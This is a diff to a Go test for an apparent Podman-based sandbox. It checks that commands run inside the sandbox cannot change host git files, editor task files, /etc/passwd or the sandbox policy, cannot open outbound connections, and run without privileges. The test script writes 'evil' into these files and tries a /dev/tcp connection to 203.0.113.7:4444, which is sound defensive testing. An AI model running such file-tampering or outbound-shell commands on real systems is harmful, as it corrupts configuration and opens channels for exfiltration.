@@ -143,7 +143,8 @@ func TestRunOnPodman(t *testing.T) {
 	e := startPodman(t)
 	tr := (&trial{image: podmanImage, git: true, options: Options{Command: []string{"bash", "-c", `
 echo work >file && cat file
-for f in .git/hooks/pre-commit .git/config .devcontainer/devcontainer.json .vscode/tasks.json /etc/passwd /run/sbx/policy.json; do
+cat .git/HEAD; echo evil >.git/config; echo evil >.git/new && cat .git/new
+for f in .devcontainer/devcontainer.json .vscode/tasks.json /etc/passwd /run/sbx/policy.json; do
 	echo evil >>$f && echo "WROTE $f"
 done 2>/dev/null
 (echo x >/dev/tcp/203.0.113.7/4444) 2>/dev/null && echo "REACHED an address"
@@ -154,7 +155,12 @@ exit 7`}}}).run(t, e)
 	if tr.err != nil || tr.result.ExitCode != 7 || !strings.HasPrefix(out, "work\n") || strings.Contains(out, "WROTE") || strings.Contains(out, "REACHED") {
 		t.Errorf("error %v, exit code %d:\n%s\n%s", tr.err, tr.result.ExitCode, out, tr.stderr.String())
 	}
-	for _, want := range []string{"CapEff:\t0000000000000000", "CapBnd:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2", "\n1000\n"} {
+	for name, want := range map[string]string{".git/hooks/pre-commit": "#!/bin/sh\n", ".git/config": "[core]\n\trepositoryformatversion = 0\n"} {
+		if text, err := os.ReadFile(filepath.Join(tr.dir, filepath.FromSlash(name))); err != nil || string(text) != want {
+			t.Errorf("%s of the host holds %q, %v", name, text, err)
+		}
+	}
+	for _, want := range []string{"ref: refs/heads/main\nevil\n", "CapEff:\t0000000000000000", "CapBnd:\t0000000000000000", "NoNewPrivs:\t1", "Seccomp:\t2", "\n1000\n"} {
 		if !strings.Contains(out, want) {
 			t.Errorf("it lacks %q:\n%s", want, out)
 		}
